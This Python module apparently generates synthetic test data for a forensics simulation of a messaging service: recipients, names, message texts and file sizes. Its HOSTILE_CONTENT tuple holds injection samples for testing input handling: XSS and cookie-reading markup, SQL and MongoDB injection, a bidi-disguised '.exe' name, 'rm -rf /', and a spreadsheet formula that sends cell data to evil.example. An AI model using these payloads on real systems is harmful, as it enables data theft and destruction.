"""Who talks and what they say: recipients per platform, agents, message texts, files.

Recipients carry the platform id forms Chat4All sees: E.164 numbers for WhatsApp
(``+5511987654321``), ``@handles`` or numeric chat ids for Telegram, ``@handles`` or
numeric IGSIDs for Instagram, with a few malformed ones; ``identities.format_valid`` is judged
by :mod:`forensics.sources.identity`, as for a live PostgreSQL.

Every scenario also carries a few hostile texts (``HOSTILE_CONTENT``): markup, a MongoDB
operator, terminal escapes, bidi overrides, spreadsheet formulas, and text decoded from
invalid UTF-8 with ``errors="replace"`` / ``"backslashreplace"``. Surrogate-escaped text
(``errors="surrogateescape"``) cannot be stored: Arrow strings and Parquet require valid
UTF-8, so the canonical ``string`` dtype rejects lone surrogates.
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass

import numpy as np

from forensics.catalog import load_catalog
from forensics.schema import CHANNELS
from forensics.simulate.columns import concat, int_text, text, uuids

WA, TG, IG, INTERNAL = range(4)
"""Channel codes: positions in :data:`forensics.schema.CHANNELS`."""
EXTERNAL = (WA, TG, IG)
CHANNEL_MIX = (0.50, 0.25, 0.20, 0.05)

CONTENT_TYPES = ("TEXT", "IMAGE", "DOCUMENT", "AUDIO", "VIDEO", "FILE")
TEXT, IMAGE, DOCUMENT, AUDIO, VIDEO, FILE = range(6)
CONTENT_MIX = (0.86, 0.06, 0.03, 0.025, 0.015, 0.01)
# median size (bytes), log-sigma, mime type, file name stem and extension
FILE_SHAPES = {
    IMAGE: (350_000, 0.8, "image/jpeg", "IMG", "jpg"),
    DOCUMENT: (800_000, 0.9, "application/pdf", "DOC", "pdf"),
    AUDIO: (180_000, 0.7, "audio/ogg", "AUD", "ogg"),
    VIDEO: (12_000_000, 0.9, "video/mp4", "VID", "mp4"),
    FILE: (2_000_000, 1.0, "application/zip", "FILE", "zip"),
}

TEXT_LIMITS = {c: int(load_catalog().limits[CHANNELS[c]]["text_chars"]) for c in EXTERNAL}
"""Platform text limits in characters (runbook R3.2; the catalog's ``limits``)."""
FILE_LIMITS = {c: int(load_catalog().limits[CHANNELS[c]]["file_bytes"]) for c in EXTERNAL}
"""Platform file limits in bytes (runbook R3.2; the catalog's ``limits``)."""

HOSTILE_CONTENT = (
    "<script>alert(1)</script>",
    '{"$gt": ""}',
    b"Ol\xe1, pedido n\xba 123 \xff\xfe confirmado".decode("utf-8", errors="replace"),
    b"Fatura \xc3\x28 anexa \xe9".decode("utf-8", errors="backslashreplace"),
    "\x1b[31mALERTA\x1b[0m sua conta foi bloqueada",
    "Comprovante recebido \u202egpj.exe",
    '=HYPERLINK("http://evil.example/?d="&A1,"clique aqui")',
    "'; DROP TABLE messages; --",
    "<img src=x onerror=alert(document.cookie)>",
    "{{7*7}} ${7*7} | `rm -rf /` \x00 fim",
)

_GREETINGS = ("", "Olá! ", "Oi, ", "Bom dia! ", "Boa tarde, ", "Boa noite! ", "Hello, ", "Hi! ", "Prezado cliente, ")
_BODIES = (
    "seu pedido foi confirmado e será enviado hoje.",
    "sua entrega está prevista para amanhã entre 8h e 12h.",
    "recebemos o seu pagamento. Obrigado!",
    "o boleto vence em 3 dias. Precisa da segunda via?",
    "podemos confirmar o horário da sua consulta?",
    "segue a segunda via da fatura.",
    "seu cadastro foi atualizado com sucesso.",
    "o técnico chega em 30 minutos.",
    "sua assinatura foi renovada.",
    "temos uma oferta especial para você 🎉",
    "o produto voltou ao estoque!",
    "pode avaliar nosso atendimento de 1 a 5?",
    "your order has shipped 📦",
    "your appointment is confirmed for tomorrow at 10:00.",
    "thanks for reaching out, an agent will reply shortly.",
    "your refund has been processed.",
    "we could not reach you by phone, when is a good time?",
    "the invoice is attached.",
    "your password was changed. If this was not you, contact us.",
    "o código de rastreio é BR123456789BR.",
    "estamos verificando o seu pedido, retornamos em breve.",
    "a reunião foi remarcada para quinta-feira.",
    "obrigado pela preferência! 😊",
    "sua solicitação foi aberta com o protocolo 2025120301.",
    "confirma o endereço de entrega: Rua das Flores, 100?",
    "seu cupom de 10% é BEMVINDO10.",
    "tudo certo por aí?",
    "ok, combinado.",
    "vou verificar e te aviso.",
    "pode enviar a foto do comprovante?",
)
CAPTIONS = ("", "", "Segue o comprovante.", "Foto do produto", "Documento assinado", "📎", "Nota fiscal",
             "Áudio explicando o problema", "Vídeo da instalação")
_FIRST = ("Ana", "Bruno", "Carla", "Daniel", "Eduarda", "Felipe", "Gabriela", "Henrique", "Isabela", "João",
          "Karina", "Lucas", "Mariana", "Nicolas", "Olivia", "Pedro", "Rafaela", "Rodrigo", "Sofia", "Thiago",
          "Valentina", "Vinicius", "Yasmin", "Leonardo", "Beatriz", "Gustavo", "Larissa", "Matheus", "Camila",
          "Arthur", "Helena", "Miguel", "Laura", "Davi", "Alice", "Samuel", "Manuela", "Enzo", "Julia", "Heitor")
_LAST = ("Silva", "Santos", "Oliveira", "Souza", "Rodrigues", "Ferreira", "Alves", "Pereira", "Lima", "Gomes",
         "Costa", "Ribeiro", "Martins", "Carvalho", "Almeida", "Lopes", "Soares", "Fernandes", "Vieira", "Barbosa",
         "Rocha", "Dias", "Nascimento", "Andrade", "Moreira", "Nunes", "Marques", "Machado", "Mendes", "Freitas")
_DDD = (11, 11, 11, 21, 21, 31, 41, 51, 61, 71, 81, 85, 19, 27, 48)
_LOREM = ("Conforme combinado, segue o detalhamento completo do atendimento, com todas as cláusulas do contrato, "
          "condições de pagamento, prazos de entrega, política de troca e devolução e observações do cliente. ")


def short_texts() -> list[str]:
    """Short texts: every greeting with every body."""
    return [g + (b[0].upper() + b[1:] if not g or g.endswith("! ") else b) for g in _GREETINGS for b in _BODIES]


def long_text(length: int) -> str:
    """A realistic long text of exactly ``length`` characters."""
    return (_LOREM * (length // len(_LOREM) + 1))[:length]


@dataclass
class Recipients:
    """The recipient pool: one row per external (or internal) addressee."""

    channel: np.ndarray  # int8 channel code
    platform_id: np.ndarray  # object: E.164 / handle / chat id / user uuid for INTERNAL
    user_id: np.ndarray  # S36 Chat4All user id
    display_name: np.ndarray  # object
    verified: np.ndarray  # bool
    malformed: np.ndarray  # bool: the platform id was generated malformed

    def __len__(self) -> int:
        return len(self.channel)


def names(rng: np.random.Generator, n: int) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Display names plus the first/last indices they were built from."""
    first = rng.integers(0, len(_FIRST), n)
    last = rng.integers(0, len(_LAST), n)
    full = text(concat(np.array(_FIRST, dtype=object)[first], " ", np.array(_LAST, dtype=object)[last]))
    return full, first, last


def recipients(rng: np.random.Generator, sizes: dict[int, int], malformed_rate: float = 0.003) -> Recipients:
    """A pool of ``sizes[channel]`` recipients per channel, unique platform ids per platform."""
    chans, ids, users, display, verified, bad = [], [], [], [], [], []
    for ch, size in sizes.items():
        if size <= 0:
            continue
        idx = np.arange(size, dtype=np.int64)
        full, first, last = names(rng, size)
        fn = np.array([_ascii(f) for f in _FIRST], dtype=object)[first]
        ln = np.array([_ascii(s) for s in _LAST], dtype=object)[last]
        malformed = rng.random(size) < malformed_rate
        if ch == WA:
            # Multiplying by a unit modulo 10**8 is a bijection: unique, scattered 8-digit suffixes.
            suffix = ((idx + int(rng.integers(0, 10**8))) % 10**8 * 73_939_133) % 10**8
            ddd = np.array(_DDD)[rng.integers(0, len(_DDD), size)]
            digits, hi, lo = _zfill(suffix, 8), _zfill(suffix // 10**4, 4), _zfill(suffix % 10**4, 4)
            valid = text(concat("+55", ddd, "9", digits))
            form = rng.integers(0, 4, size)
            bad_forms = np.select(
                [form == 0, form == 1, form == 2],
                [text(concat("55", ddd, "9", digits)),
                 text(concat("+55 ", ddd, " 9", hi, "-", lo)),
                 text(concat("(", ddd, ") 9", hi, "-", lo))],
                text(concat("+55", ddd, "9", _zfill(suffix // 10, 7), "O")),
            )
            pid = np.where(malformed, bad_forms, valid)
        else:
            numeric = rng.random(size) < (0.4 if ch == TG else 0.3)
            base, step = (1_000_000_000, 3137) if ch == TG else (17_841_400_000_000_000, 9973)
            num = text(int_text(base + idx * step + rng.integers(0, step, size)))
            sep = "_" if ch == TG else "."
            handle = text(concat("@", fn, sep, ln, idx))
            bad_handle = text(concat("@", fn, " ", ln) if ch == TG else concat("instagram.com/", fn, sep, ln))
            pid = np.where(malformed, bad_handle, np.where(numeric, num, handle))
        chans.append(np.full(size, ch, dtype=np.int8))
        ids.append(pid.astype(object))
        users.append(uuids(rng, size))
        display.append(full)
        verified.append(rng.random(size) < 0.96)
        bad.append(malformed)
    return Recipients(np.concatenate(chans), np.concatenate(ids), np.concatenate(users),
                      np.concatenate(display), np.concatenate(verified), np.concatenate(bad))


def _zfill(values: np.ndarray, width: int) -> np.ndarray:
    return np.char.zfill(values.astype(f"U{width}"), width).astype(object)


def _ascii(name: str) -> str:
    return unicodedata.normalize("NFKD", name).encode("ascii", "ignore").decode().lower()


def malformed_e164(numbers: np.ndarray, rng: np.random.Generator) -> np.ndarray:
    """Well-formed E.164 numbers (+55DDD9XXXXXXXX) rewritten the ways contact imports break them."""
    numbers = np.asarray(numbers, dtype=object)
    bare = np.array([v[1:] for v in numbers], dtype=object)  # a few hundred at most
    spaced = np.array([f"+{v[1:3]} {v[3:5]} {v[5:10]}-{v[10:]}" for v in numbers], dtype=object)
    local = np.array([f"0{v[3:]}" for v in numbers], dtype=object)
    form = rng.integers(0, 3, len(numbers))
    return np.select([form == 0, form == 1], [bare, spaced], local)
